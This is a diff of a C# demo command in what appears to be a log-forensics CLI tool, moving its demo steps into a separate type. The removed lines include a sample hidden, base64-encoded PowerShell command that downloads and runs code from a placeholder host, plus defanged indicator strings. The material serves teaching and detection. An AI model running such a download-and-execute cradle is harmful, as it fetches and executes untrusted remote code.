@@ -14,50 +14,12 @@ namespace Quarry.Cli.Verbs;
 internal static class DemoVerb
 {
     private const string Samples = "samples/";
-    private const string ProcessEvents = "windows-process-events.csv";
-    private const string PhishedCommand = "(the CommandLine of row 1300)";
-    private const int PhishedRow = 1300;
 
     private const string DefaultPage = "quarry-demo.html";
 
     private const string Introduction =
         "A small company, an invoice that was opened, and what its logs say of it. Every section is one command on the samples of "
         + "Quarry's repository; all of it is made up.";
-
-    private static readonly DemoStep[] Steps =
-    [
-        new(
-            "What is hidden in the command lines?",
-            "On 4 March somebody opened an invoice. decode finds the encoded PowerShell among 3,165 process\n"
-            + "starts, and what is packed inside it: UTF-16 in base64, gzip in that, base64 in that again.\n"
-            + "Layer 1.1.1 is the download.",
-            ["decode", "samples/windows-process-events.csv", "--column", "CommandLine", "--limit", "12"]),
-        new(
-            "The same for one string",
-            "--annotate prints the text with each encoded part replaced by what it holds.",
-            [
-                "decode", "--annotate", "--text",
-                "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBhAHMAcwBlAHQAcwAuAGUAeABhAG0AcABsAGUALgBuAGUAdAAvAGEAJwApAA==",
-            ]),
-        new(
-            "Which indicators are there?",
-            "iocs takes addresses, names, URLs, hashes and mail addresses that are right, not merely shaped so;\n"
-            + "defanged ones too. The time and the version number are none.",
-            [
-                "iocs", "--text",
-                "beacon to hxxps[:]//telemetry[.]example[.]org/api and 203[.]0[.]113[.]58, seen 12:34:56 on Microsoft.NET 4.8.9037.0, mail soc@example.com",
-            ]),
-        new(
-            "And inside what is encoded?",
-            "--decode looks into every decoded layer too and says in which one an indicator was. The download's\n"
-            + "URL is in none of the command lines as they were logged; it is in layer 1.1.1 of the one that Word\n"
-            + "started (row 1300).",
-            ["iocs", "--decode", "--text", PhishedCommand]),
-        new(
-            "Raw syslog, line by line",
-            "Any text will do as input; a glob, a .gz or .zst file or a pipe as well.",
-            ["iocs", "samples/syslog.log", "--types", "url,email", "--limit", "12"]),
-    ];
 
     /// <summary>The command.</summary>
     public static Command Create(Func<bool, Terminal> terminals)
@@ -95,7 +57,7 @@ internal static class DemoVerb
                     Say(terminal, $"\n{step.Title}\n{step.Explanation}\n\n$ {command}\n");
                     return terminals;
                 },
-                step => step.IsText ? [] : ["--format", "table"]);
+                step => step.TerminalFormat);
             if (code == ExitCode.Done)
             {
                 Say(terminal, "\nThe samples are described in samples/README.md. Next: quarry --help, quarry search WORD.\n");
@@ -134,7 +96,7 @@ internal static class DemoVerb
             try
             {
                 Unpack(directory);
-                foreach (DemoStep step in Steps)
+                foreach (DemoStep step in DemoStep.All)
                 {
                     cancellation.ThrowIfCancellationRequested();
                     Func<bool, Terminal> terminal = terminalOf(step, CommandLines.Of(step.Arguments));
@@ -170,10 +132,10 @@ internal static class DemoVerb
 
     private static string Locate(string argument, string directory)
     {
-        if (argument == PhishedCommand)
+        if (argument == DemoStep.PhishedCommand)
         {
-            using TableInput events = TableInput.Open([Path.Combine(directory, ProcessEvents)], new InputOptions { Columns = ["CommandLine"] });
-            return events.Stream.Gather().Text("CommandLine").GetString(PhishedRow)!;
+            using TableInput events = TableInput.Open([Path.Combine(directory, DemoStep.ProcessEvents)], new InputOptions { Columns = ["CommandLine"] });
+            return events.Stream.Gather().Text("CommandLine").GetString(DemoStep.PhishedRow)!;
         }
 
         return argument.StartsWith(Samples, StringComparison.Ordinal) ? Path.Combine(directory, argument[Samples.Length..]) : argument;
@@ -194,11 +156,5 @@ internal static class DemoVerb
             using FileStream file = File.Create(Path.Combine(directory, name[Samples.Length..]));
             resource.CopyTo(file);
         }
-    }
-
-    private sealed record DemoStep(string Title, string Explanation, string[] Arguments)
-    {
-        /// <summary>Whether the step prints text as it is, not rows.</summary>
-        public bool IsText => Arguments.Contains("--annotate");
     }
 }
